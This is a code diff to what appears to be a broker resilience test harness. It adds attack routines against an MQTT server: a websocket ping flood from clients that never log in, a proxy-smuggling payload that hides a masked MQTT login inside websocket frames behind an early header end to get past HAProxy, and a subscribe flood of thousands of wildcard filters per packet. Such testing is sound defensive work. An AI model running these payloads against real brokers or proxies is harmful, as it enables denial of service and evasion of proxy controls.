@@ -9,7 +9,7 @@ import contextlib
 import itertools
 import typing as t
 
-from .. import events, packets, wire
+from .. import events, frames, packets, wire
 from ..attack import attack
 from ..field import Field
 from ..packets import V3
@@ -58,6 +58,50 @@ async def tls_handshakes(field: Field) -> None:
     await field.each(range(16), shake, at_once=16, again=True)
 
 
+@attack("frames before a login", sources=1)
+async def frames_before_a_login(field: Field) -> None:
+    """Pings without a payload, as fast as they are taken, of clients that never log in. What got through are connections."""
+    listener = field.target.insiders["websockets"].listener
+    ping = frames.frame(b"", frames.PING) * 2000
+
+    async def pour(_number: int) -> None:
+        connection = await field.connect(listener, timeout=5)
+        field.through += 1
+        try:
+            while field.left:
+                field.tried += 2000
+                await asyncio.wait_for(connection.send_raw(ping), max(field.left, 0.1))
+        finally:
+            connection.vanish()
+
+    await field.each(range(4), pour, at_once=4, again=True)
+
+
+@attack("a header that ends early", forbidden=True)
+async def header_that_ends_early(field: Field) -> None:
+    """For brokers before 2.1 it ends at the first empty line. What HAProxy would take for its end is in a ping: all that follows is one frame to it."""
+    login = field.target.insiders["websockets"]
+    hello = packets.connect(V3, "early", username=login.username, password=login.password)
+    # No zero byte comes before the line ends: HAProxy looks for these in a text.
+    key = bytes(next(each for each in range(1, 256) if each not in hello) for _each in range(4))
+    masked = bytes(byte ^ key[0] for byte in hello)
+    end = b"\r\n\r\n" + bytes([0x89, 0x7F, 0x40, *bytes(7)])
+    hidden = bytes([0x82, 0x80 | len(hello)]) + key + masked + bytes([0x89, 0x80 | len(end)]) + key + end
+    head = frames.upgrade(login.listener.host).replace(b"\r\n", b"\n")
+
+    async def publish(_number: int) -> None:
+        connection = await field.connect(login.listener, timeout=5, upgraded=False)
+        try:
+            field.tried += 1
+            await connection.send_raw(head + hidden)
+            if b"\x20\x02\x00\x00" in await connection.read_raw(2):
+                field.through += 1
+        finally:
+            connection.vanish()
+
+    await field.each(range(8), publish)
+
+
 @attack("a publisher in a loop")
 async def publisher_in_a_loop(field: Field) -> None:
     """At QoS 1, as fast as it gets acknowledgements. What got through are acknowledged."""
@@ -88,6 +132,21 @@ async def reader_that_subscribes(field: Field) -> None:
         for topic in itertools.chain(["#"] * 20, chains(field.random.randrange(2**30), 60)):
             field.tried += 1
             await connection.send(packets.subscribe(V3, [topic], qos=1))
+
+    await asyncio.gather(*(logged_in(field, login, subscribe) for _each in range(CONNECTIONS)))
+
+
+@attack("a reader that subscribes to thousands", sources=1, retained=2000)
+async def reader_that_subscribes_to_thousands(field: Field) -> None:
+    """In each packet as many topic filters as fit. What got through are connections."""
+    login = field.target.insiders["subscriber"]
+
+    async def subscribe(connection: wire.Connection) -> None:
+        field.through += 1
+        for _each in range(10):
+            field.tried += 4000
+            await connection.send(packets.subscribe(V3, ["#"] * 4000, qos=1))
+        await asyncio.sleep(1)
 
     await asyncio.gather(*(logged_in(field, login, subscribe) for _each in range(CONNECTIONS)))
 
